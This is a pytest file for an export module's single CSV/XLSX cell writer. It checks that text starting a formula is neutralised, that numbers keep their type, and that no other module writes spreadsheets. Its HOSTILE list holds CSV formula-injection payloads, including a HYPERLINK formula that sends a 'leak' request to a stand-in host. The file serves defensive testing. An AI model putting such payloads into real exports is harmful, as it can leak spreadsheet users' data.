"""The one cell writer of CSV and XLSX exports (sla/reports/spreadsheet.py): texts that start a
formula are neutralised, numbers stay numbers; and no other production module writes CSV or XLSX."""

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sla.reports.exports import render_rows
from sla.reports.spreadsheet import NEUTRALISER, append_row, book_bytes, csv_bytes, new_book

ROOT = Path(__file__).parents[3]
HOSTILE = [
    '=HYPERLINK("http://x.example/?leak","x")', "+1+1", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "＝1+1", "＠SUM(A1)",
]  # fmt: skip
# Writers that are not exports of otklik's data, each with the reason.
OTHER_WRITERS = {
    # The classifier's annotated copy of a corpus file (otklik classifier classify): read back
    # by programs (evaluation, training) and must keep the texts byte for byte.
    "classifier/batch.py",
}


def read_xlsx(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_starts_a_formula_is_neutralised_in_csv_and_text_in_xlsx(text: str) -> None:
    [row] = list(csv.DictReader(io.StringIO(render_rows([{"text": text}], "csv").decode())))
    assert row["text"] == NEUTRALISER + text
    book = new_book()
    append_row(book.active, [text])
    assert read_xlsx(book_bytes(book)) == [[text.replace("\r", "\n")]]  # XML reads CR as LF
    assert load_workbook(io.BytesIO(book_bytes(book))).active["A1"].quotePrefix


def test_numbers_stay_numbers_and_plain_texts_stay_as_they_are() -> None:
    row = {
        "n": -2,
        "ratio": -0.5,
        "ok": True,
        "none": None,
        "text": "Нет воды - 2 дня",
        "id": "m-1",
    }
    data = csv_bytes([row])
    assert data.decode().splitlines()[1] == '-2,-0.5,True,"","Нет воды - 2 дня","m-1"'
    book = new_book()
    append_row(book.active, [-2, -0.5, "Нет воды - 2 дня"])
    assert read_xlsx(book_bytes(book)) == [[-2, -0.5, "Нет воды - 2 дня"]]
    cells = list(load_workbook(io.BytesIO(book_bytes(book))).active[1])
    assert [c.data_type for c in cells] == ["n", "n", "s"]
    assert not any(c.quotePrefix for c in cells)


def test_a_character_xml_cannot_hold_does_not_fail_the_xlsx() -> None:
    book = new_book()
    append_row(book.active, ["a\x01b\x0bc", None, "строка\nвторая"])
    assert read_xlsx(book_bytes(book)) == [["a\ufffdb\ufffdc", None, "строка\nвторая"]]


def writes_spreadsheets(path: Path) -> bool:
    source = path.read_text(encoding="utf-8")
    return any(call in source for call in ("csv.writer(", "csv.DictWriter(", "Workbook("))


def test_no_export_bypasses_the_cell_writer() -> None:
    writers = {
        path.relative_to(ROOT).as_posix()
        for folder in ("kernel", "ingest", "classifier", "sla", "services")
        for path in (ROOT / folder).rglob("*.py")
        if writes_spreadsheets(path)
    }
    assert writers == {"sla/reports/spreadsheet.py", *OTHER_WRITERS}
